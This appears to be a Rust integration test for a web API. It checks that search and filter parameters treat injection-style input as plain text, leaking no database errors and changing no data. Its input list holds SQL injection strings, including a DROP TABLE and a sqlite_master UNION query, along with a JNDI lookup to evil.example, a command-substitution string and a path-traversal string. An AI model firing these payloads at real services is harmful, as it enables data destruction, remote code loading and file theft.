//! What looks like SQL, like a search expression or like a program, in every place that takes text to look for. It is
//! text: it finds what it says, or does not fit, and harms nothing.

use koinon::web::query::EVENT_FILTERS;
use koinon::web::routes::FILTERS;

use crate::store::on_both_engines;
use crate::support::Place;
use crate::support::world::World;

on_both_engines!(what_is_asked_for_is_only_text);

const TEXTS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "\" OR \"\"=\"",
    "1) UNION SELECT name FROM sqlite_master --",
    "1; SELECT pg_sleep(30) --",
    "$1",
    "%",
    "_",
    "*",
    "\"",
    "\"unclosed",
    "a AND",
    "NEAR(a b, 5)",
    "a* OR b*",
    "-a",
    "^a",
    "{a b} : c",
    "words : a",
    "a & | !",
    "a:*",
    "<->",
    "\\",
    "\u{0}",
    "\u{202e}evil",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "`id`",
    "../../../etc/passwd",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

async fn what_is_asked_for_is_only_text(place: Place) {
    let world = World::new(&place).await;
    let (token, delegate) = (world.by("chief"), world.by("delegate"));
    let before = place.export();
    let collections = ["visits", "people", "learnings", "documents", "cities", "reports"];
    let mut addresses: Vec<String> = Vec::new();
    for (at, collection) in collections.iter().enumerate() {
        // Each collection with q, and the other parameters shared out among them.
        addresses.push(format!("/api/{collection}?q="));
        let shared = FILTERS.iter().enumerate().filter(|(number, _)| number % collections.len() == at);
        addresses.extend(shared.map(|(_, name)| format!("/api/{collection}?{name}=")));
    }
    addresses.extend(EVENT_FILTERS.iter().map(|name| format!("/api/events?limit=5&{name}=")));
    addresses.extend(
        ["/api/search?q=", "/api/audit?limit=5&subject=", "/api/dashboard?programme=", "/api/indicators?from="]
            .map(str::to_owned),
    );
    addresses.extend(["/api/visits/", "/api/history/visit/", "/api/events/"].map(str::to_owned));
    for address in &addresses {
        for text in TEXTS {
            for token in [token, delegate] {
                let reply = world.server.get(&format!("{address}{}", encoded(text)), token).await;
                let status = reply.status.as_u16();
                assert!([200, 404, 422].contains(&status), "{address}{text:?}: {status} {}", reply.text());
                if status == 200 && !address.contains("q=") && !address.contains("events?") {
                    let items = reply.json()["items"].as_array().map_or(0, Vec::len);
                    assert_eq!(items, 0, "{address}{text:?} finds what it does not say: {}", reply.text());
                }
                if status != 200 {
                    assert_eq!(reply.header("content-type"), "application/problem+json", "{address}{text:?}");
                    for word in ["sqlx", "SQLITE", "syntax error", "near \"", "fts5", "tsquery", "panicked"] {
                        assert!(!reply.text().contains(word), "{address}{text:?}: {}", reply.text());
                    }
                }
            }
        }
    }
    assert_eq!(place.export(), before, "nothing was changed");
    place.verify();
}
